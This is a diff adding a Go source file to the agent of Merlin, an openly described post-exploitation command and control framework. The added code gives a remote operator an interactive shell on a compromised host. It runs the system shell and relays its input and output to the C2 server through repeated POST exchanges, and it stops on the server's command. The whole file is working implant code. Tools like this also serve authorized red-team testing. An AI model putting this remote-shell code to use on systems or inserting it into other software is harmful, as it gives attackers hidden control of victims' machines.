@@ -0,0 +1,195 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"errors"
+	"fmt"
+	"io"
+	"os/exec"
+	"sync"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+const (
+	shellMinInterval = 100 * time.Millisecond // The wait between exchanges while the operator is typing or output is flowing
+	shellMaxInterval = 2 * time.Second        // The longest wait between exchanges while the shell is idle
+	shellMaxOutput   = 1 << 20                // The most output held for the server before the shell's writes block
+)
+
+// shellSession is the interactive command shell whose input and output are exchanged with the server
+type shellSession struct {
+	sync.Mutex
+	cond    *sync.Cond
+	stdin   io.WriteCloser
+	cmd     *exec.Cmd
+	output  bytes.Buffer // Output waiting for the next exchange
+	closed  bool         // The shell process exited
+	running bool
+}
+
+// newShellSession returns a stopped shell session
+func newShellSession() *shellSession {
+	s := &shellSession{}
+	s.cond = sync.NewCond(&s.Mutex)
+	return s
+}
+
+// startShell runs the operating system's command shell and starts exchanging its input and output with the server
+// until the server sends the stop command or the shell exits
+func (a *Agent) startShell() error {
+	s := a.shell
+	s.Lock()
+	defer s.Unlock()
+	if s.running {
+		return errors.New("an interactive shell is already running")
+	}
+	cmd := shellCommand()
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		return err
+	}
+	cmd.Stdout = s
+	cmd.Stderr = s
+	if err = cmd.Start(); err != nil {
+		return err
+	}
+	s.stdin = stdin
+	s.cmd = cmd
+	s.output.Reset()
+	s.closed = false
+	s.running = true
+	go func() {
+		// Wait returns after the shell's output has been copied
+		_ = cmd.Wait()
+		s.Lock()
+		if s.cmd == cmd {
+			s.closed = true
+		}
+		s.Unlock()
+	}()
+	go a.shellExchange()
+	return nil
+}
+
+// shellExchange sends the shell's output to the server and writes the server's input to the shell, waiting less
+// between exchanges while the operator is typing
+func (a *Agent) shellExchange() {
+	s := a.shell
+	interval := shellMinInterval
+	failed := 0
+	for {
+		output, closed := s.drain()
+		m := messages.Base{
+			Version: 1.0,
+			ID:      a.ID,
+			Type:    "Shell",
+			Payload: messages.Shell{Output: output, Closed: closed},
+		}
+		r, err := a.sendMessage("POST", m)
+		if err != nil {
+			failed++
+			if a.Verbose {
+				message("warn", fmt.Sprintf("there was an error exchanging shell messages:\r\n%s", err.Error()))
+			}
+			if failed >= a.MaxRetry {
+				s.stop()
+				return
+			}
+			time.Sleep(shellMaxInterval)
+			continue
+		}
+		failed = 0
+		p, ok := r.Payload.(messages.Shell)
+		if closed || r.Type != "Shell" || !ok || p.Command == "stop" {
+			if a.Verbose {
+				message("note", "Stopping the interactive shell")
+			}
+			s.stop()
+			return
+		}
+		if p.Input != "" {
+			s.write(p.Input)
+		}
+
+		if output != "" || p.Input != "" {
+			interval = shellMinInterval
+		} else if interval *= 2; interval > shellMaxInterval {
+			interval = shellMaxInterval
+		}
+		time.Sleep(interval)
+	}
+}
+
+// Write holds the shell's output for the server, waiting while too much output is already waiting
+func (s *shellSession) Write(b []byte) (int, error) {
+	s.Lock()
+	defer s.Unlock()
+	for s.output.Len() >= shellMaxOutput && s.running {
+		s.cond.Wait()
+	}
+	if !s.running {
+		return 0, errors.New("the interactive shell was stopped")
+	}
+	return s.output.Write(b)
+}
+
+// write sends the server's input to the shell
+func (s *shellSession) write(input string) {
+	s.Lock()
+	stdin := s.stdin
+	s.Unlock()
+	if stdin == nil {
+		return
+	}
+	if _, err := io.WriteString(stdin, input); err != nil {
+		_, _ = s.Write([]byte(fmt.Sprintf("there was an error writing to the shell:\r\n%s\n", err.Error())))
+	}
+}
+
+// drain removes and returns the output waiting for the server and if the shell process exited
+func (s *shellSession) drain() (string, bool) {
+	s.Lock()
+	defer s.Unlock()
+	out := s.output.String()
+	s.output.Reset()
+	s.cond.Broadcast()
+	return out, s.closed
+}
+
+// stop kills the shell process and discards the output waiting for the server
+func (s *shellSession) stop() {
+	s.Lock()
+	defer s.Unlock()
+	if s.stdin != nil {
+		_ = s.stdin.Close()
+		s.stdin = nil
+	}
+	if !s.closed && s.cmd != nil {
+		_ = s.cmd.Process.Kill()
+	}
+	s.cmd = nil
+	s.output.Reset()
+	s.running = false
+	s.cond.Broadcast()
+}